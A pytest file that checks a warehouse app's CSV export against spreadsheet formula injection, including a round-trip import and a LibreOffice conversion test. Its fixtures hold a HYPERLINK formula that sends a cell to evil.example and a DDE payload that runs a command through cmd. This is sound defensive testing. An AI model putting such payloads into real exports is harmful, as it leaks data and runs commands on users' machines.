"""CSV exports that spreadsheets and shells cannot run: risky cells are neutralised the
way OWASP recommends, checked by opening the export in LibreOffice and reading the
spreadsheet it makes with openpyxl; and what goes out comes back in as it was.
Exporting and importing need a lead."""

from __future__ import annotations

import csv
import io
import os
import shutil
import signal
import subprocess

import pytest

from backroom.models.data.csv_cells import SafeCsvWriter
from backroom.models.data.exporting import export
from backroom.models.data.importing import apply_import, plan_import
from backroom.models.db import db
from backroom.models.errors import Refused
from backroom.models.goods_out.parties import add_consignee
from backroom.models.masterdata.adding import (
    ItemSpec,
    add_item,
    add_location,
    add_lot,
    add_user,
    get_user,
    init_database,
)
from backroom.models.migrations import open_database
from backroom.models.schema import Item, Lot
from backroom.models.schema.shipping import Consignee
from backroom.models.stock.operations import receive
from tests.conftest import TEST_USER

# Texts a spreadsheet would run if written as they are; the lot numbers keep to GS1's
# characters, as lot numbers must.
RISKY_LOTS = ("-L1", "=1+1", "+L2")
RISKY_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
RISKY_CONSIGNEE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def risky(sqlite_database):
    """Items, lots and a consignee whose texts start like formulas; a negative count."""
    admin = get_user(TEST_USER)
    add_item(ItemSpec("=SKU", RISKY_NAME, tracking="lot"), by=admin)
    add_item(ItemSpec("PLAIN", "-3 degrees cold store"), by=admin)
    add_location("A1", by=admin)
    item = Item.get(Item.sku == "=SKU")
    for number in RISKY_LOTS:
        add_lot(item, number, by=admin)
        receive("=SKU", 5, "A1", lot=number, user=TEST_USER)
    add_consignee(
        RISKY_CONSIGNEE,
        address="-Dock 4",
        postal_code="-1000",
        city="+Ghent",
        country="BE",
        user=TEST_USER,
    )
    return sqlite_database


def exported(kind: str) -> str:
    out = io.StringIO()
    export(kind, out, user=TEST_USER)
    return out.getvalue()


def test_risky_cells_go_out_quoted_and_numbers_stay_numbers(risky):
    lots = exported("lots")
    assert '"\'-L1"' in lots and '"\'=1+1"' in lots and '"\'+L2"' in lots
    items = exported("items")
    assert '"\'=SKU"' in items
    assert '"\'-3 degrees cold store"' in items  # a text, though it starts like a number
    cells = [cell for row in csv.reader(io.StringIO(exported("moves"))) for cell in row]
    assert cells and not [c for c in cells if c and c[0] in "=+-@\t\r" and not c.isdigit()]


def test_what_is_exported_imports_back_as_the_same_text(risky, tmp_path):
    files = {kind: exported(kind).encode() for kind in ("items", "locations", "lots", "stock")}
    files["consignees"] = exported("consignees").encode()
    db.close()
    open_database(f"sqlite:///{tmp_path / 'again.db'}", create=True)
    init_database(TEST_USER)
    for kind in ("items", "locations", "lots", "consignees"):
        plan = plan_import(kind, files[kind], source=f"{kind}.csv", user=TEST_USER)
        assert plan.problems == [], kind
        apply_import(plan, user=TEST_USER)
    assert Item.get(Item.sku == "=SKU").name == RISKY_NAME
    assert sorted(lot.number for lot in Lot.select()) == sorted(RISKY_LOTS)
    shop = Consignee.get()
    assert (shop.name, shop.address, shop.postal_code, shop.city) == (
        RISKY_CONSIGNEE,
        "-Dock 4",
        "-1000",
        "+Ghent",
    )


def test_an_operator_may_neither_export_nor_import(risky):
    add_user("olga", "operator", by=get_user(TEST_USER))
    with pytest.raises(Refused, match="exporting data needs a lead"):
        export("stock", io.StringIO(), user="olga")
    with pytest.raises(Refused, match="importing data needs a lead"):
        plan_import("items", b"sku,name\nRICE,Rice\n", user="olga")
    assert Item.select().where(Item.sku == "RICE").count() == 0


# --- in a real spreadsheet ---------------------------------------------------------------


def _to_xlsx(folder, *csv_files) -> None:
    """LibreOffice (headless) makes FOLDER/NAME.xlsx of each CSV file, read as UTF-8
    with commas and double quotes; its processes end with the test."""
    command = [
        shutil.which("soffice") or "soffice",
        "--headless",
        f"-env:UserInstallation=file://{folder / 'profile'}",
        "--infilter=CSV:44,34,76,1",
        "--convert-to",
        "xlsx",
        "--outdir",
        str(folder),
        *map(str, csv_files),
    ]
    process = subprocess.Popen(
        command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, start_new_session=True
    )
    try:
        output, _ = process.communicate(timeout=180)
    finally:
        if process.poll() is None:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait()
    assert process.returncode == 0, output.decode(errors="replace")


def _cells(path) -> list[tuple[object, str]]:
    import openpyxl

    book = openpyxl.load_workbook(path)
    return [(c.value, c.data_type) for row in book.active.iter_rows() for c in row]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_the_export_with_no_formula_in_it(risky, tmp_path):
    lots = tmp_path / "lots.csv"
    lots.write_text(exported("lots"), encoding="utf-8")
    items = tmp_path / "items.csv"
    items.write_text(exported("items"), encoding="utf-8")
    # The same lots written as Python's csv module writes them: the control, to show
    # that the spreadsheet does run such cells.
    raw = tmp_path / "raw.csv"
    raw.write_text("sku,lot\n=SKU,=1+1\nPLAIN,-3\n", encoding="utf-8")
    counts = tmp_path / "counts.csv"
    with counts.open("w", encoding="utf-8", newline="") as out:
        SafeCsvWriter(out).writerows([("lot", "delta", "text"), ("=1+1", -3, "+2")])
    _to_xlsx(tmp_path, lots, items, raw, counts)
    assert _cells(tmp_path / "counts.xlsx")[3:] == [("'=1+1", "s"), (-3, "n"), (2, "n")]
    assert ("=1+1", "f") in _cells(tmp_path / "raw.xlsx")
    assert (-3, "n") in _cells(tmp_path / "raw.xlsx")
    for name in ("lots", "items"):
        cells = _cells(tmp_path / f"{name}.xlsx")
        assert [c for c in cells if c[1] == "f"] == [], name
    lot_cells = [value for value, _ in _cells(tmp_path / "lots.xlsx")]
    assert {"'-L1", "'=1+1", "'+L2", "'=SKU"} <= set(lot_cells)
    item_cells = [value for value, _ in _cells(tmp_path / "items.xlsx")]
    assert {"'" + RISKY_NAME, "'-3 degrees cold store", "PLAIN", None} <= set(item_cells)
